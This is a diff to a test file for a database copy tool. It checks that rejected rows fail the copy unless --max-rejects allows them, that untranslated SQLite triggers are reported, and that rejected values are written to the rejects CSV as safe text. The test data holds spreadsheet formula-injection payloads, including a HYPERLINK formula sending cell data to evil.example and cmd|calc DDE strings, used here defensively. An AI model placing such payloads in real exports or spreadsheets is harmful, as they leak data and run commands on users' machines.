@@ -109,11 +109,11 @@ describe('lockstep copy', () => {
     expect(third.stdout).toContain('Already copied')
   }, 180_000)
 
-  it('writes rejected values that a spreadsheet would run as formulas to --rejects as text', async () => {
+  it('fails on rejected rows unless --max-rejects allows them, naming the rows left behind, and writes rejected values that a spreadsheet would run as formulas to --rejects as text', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'lockstep-copy-rejects-'))
     const file = join(dir, 'people.db')
     const db = new Database(file)
-    db.exec('CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER)')
+    db.exec('CREATE TABLE people (id INTEGER PRIMARY KEY, age INTEGER); CREATE TRIGGER people_touch AFTER UPDATE ON people BEGIN SELECT 1; END')
     const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', 'forty']
     const insert = db.prepare('INSERT INTO people (id, age) VALUES (?, ?)')
     hostile.forEach((value, i) => insert.run(i + 1, value))
@@ -121,8 +121,17 @@ describe('lockstep copy', () => {
     db.close()
     const url = `${await createFreshDatabase('copy_rejects', { migrate: false })}?sslmode=disable`
     const csvFile = join(dir, 'rejects.csv')
-    const result = await lockstep(['copy', '--from', file, '--to', url, '--rejects', csvFile])
-    expect(result.code, result.stderr).toBe(0)
+    // No reject limit given: 0, like a plan step's – the copy fails, and says what was left behind and why.
+    const strict = await lockstep(['copy', '--from', file, '--to', url, '--rejects', csvFile])
+    expect(strict.code).toBe(1)
+    expect(strict.stderr).toContain('left behind: 7 rows of people – age: ')
+    expect(strict.stderr).toContain('(7 values)')
+    expect(strict.stderr).toContain('more than the limit of 0')
+    // Allowed by --max-rejects, the same copy resumes and finishes: exit 0, the rejects still named.
+    const result = await lockstep(['copy', '--from', file, '--to', url, '--rejects', csvFile, '--max-rejects', '10'])
+    // Every row is there but the trigger: exit 4, the trigger named with the reason.
+    expect(result.code, result.stderr).toBe(4)
+    expect(result.stderr).toContain('not copied: people: trigger people_touch – SQLite triggers are not translated')
     const { readFile } = await import('node:fs/promises')
     const csv = await readFile(csvFile, 'utf8')
     const rows = parseCsv(csv)
